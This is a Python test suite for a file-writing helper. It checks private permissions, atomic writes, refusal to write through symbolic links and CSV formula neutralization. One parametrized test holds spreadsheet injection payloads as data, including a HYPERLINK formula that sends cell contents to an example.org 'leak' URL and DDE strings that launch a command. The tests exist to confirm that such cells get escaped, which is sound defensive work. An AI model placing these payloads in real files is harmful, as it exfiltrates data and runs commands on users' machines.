"""Files written for people (ips_jobdev._files): private, whole or not at all, never
through a link, never replacing a file unless allowed, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ips_jobdev._files import (
    FORMULA_STARTS,
    FileWriteError,
    atomic_writer,
    check_target,
    csv_file,
    neutralize_formula,
    restore_formula,
    write_file,
)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_new_file_is_private_to_its_owner(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    write_file(target, b"name\n")
    assert target.read_bytes() == b"name\n"
    assert mode(target) == 0o600


def test_missing_folders_are_made_private(tmp_path: Path) -> None:
    target = tmp_path / "a" / "b" / "out.csv"
    write_file(target, b"x")
    assert mode(tmp_path / "a") == 0o700
    assert target.read_bytes() == b"x"


def test_an_existing_file_is_refused_unless_replacing_is_allowed(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"keep me")
    with pytest.raises(FileWriteError, match="already exists; use --force"):
        write_file(target, b"new")
    assert target.read_bytes() == b"keep me"
    write_file(target, b"new", replace=True)
    assert target.read_bytes() == b"new"
    assert mode(target) == 0o600  # a replaced 0644 file is private too


def test_the_programs_own_earlier_output_may_be_replaced(tmp_path: Path) -> None:
    target = tmp_path / "out.ics"
    target.write_bytes(b"BEGIN:VCALENDAR")
    write_file(target, b"again", ours=lambda path: path.read_bytes().startswith(b"BEGIN:"))
    assert target.read_bytes() == b"again"


@pytest.mark.parametrize("replace", [False, True])
def test_a_symbolic_link_is_never_written_through(tmp_path: Path, replace: bool) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    link = tmp_path / "rejects.csv"
    link.symlink_to(victim)
    with pytest.raises(FileWriteError, match="symbolic link"):
        write_file(link, b"overwritten", replace=replace)
    assert victim.read_bytes() == b"precious"
    assert link.is_symlink()


def test_a_dangling_link_is_refused_and_its_target_not_created(tmp_path: Path) -> None:
    link = tmp_path / "rejects.csv"
    link.symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(FileWriteError, match="symbolic link"):
        write_file(link, b"x")
    assert not (tmp_path / "elsewhere.csv").exists()


def test_a_link_made_while_writing_is_not_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    target = tmp_path / "out.csv"
    with (  # noqa: PT012
        pytest.raises(FileWriteError, match="symbolic link"),
        atomic_writer(target) as stream,
    ):
        stream.write(b"rows")
        target.symlink_to(victim)
    assert victim.read_bytes() == b"precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "victim.txt"]


def test_a_failure_while_writing_leaves_nothing_behind(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"old")
    with pytest.raises(RuntimeError), atomic_writer(target, replace=True) as stream:  # noqa: PT012
        stream.write(b"half a file")
        raise RuntimeError("disk full")
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_folder_or_a_missing_folder_is_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(FileWriteError, match="is a folder"):
        check_target(tmp_path)
    with pytest.raises(FileWriteError, match="does not exist"):
        check_target(tmp_path / "nope" / "out.csv", create_folders=False)


def test_a_path_under_a_file_is_refused_before_writing(tmp_path: Path) -> None:
    (tmp_path / "plain.txt").write_bytes(b"x")
    with pytest.raises(FileWriteError, match=r"cannot write .*out\.csv"):
        check_target(tmp_path / "plain.txt" / "out.csv")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://example.org/?leak="&A1,"open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_formula_cells_are_neutralized_in_csv_files(tmp_path: Path, cell: str) -> None:
    target = tmp_path / "out.csv"
    with csv_file(target) as writer:
        writer.writerow(["name", "note"])
        writer.writerow(["Example Bakery", cell])
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][1] == "'" + cell
    assert restore_formula(rows[1][1]) == cell
    assert mode(target) == 0o600


@given(st.text(max_size=30))
def test_neutralizing_then_restoring_gives_the_cell_back(cell: str) -> None:
    safe = neutralize_formula(cell)
    assert not safe or safe[0] not in FORMULA_STARTS
    assert restore_formula(safe) == cell or (cell[:1] == "'" and cell[1:2] in FORMULA_STARTS)


def test_plain_cells_are_left_alone() -> None:
    for cell in ["Example Bakery", "608-555-0101", "", "'quoted", "15.50"]:
        assert neutralize_formula(cell) == cell
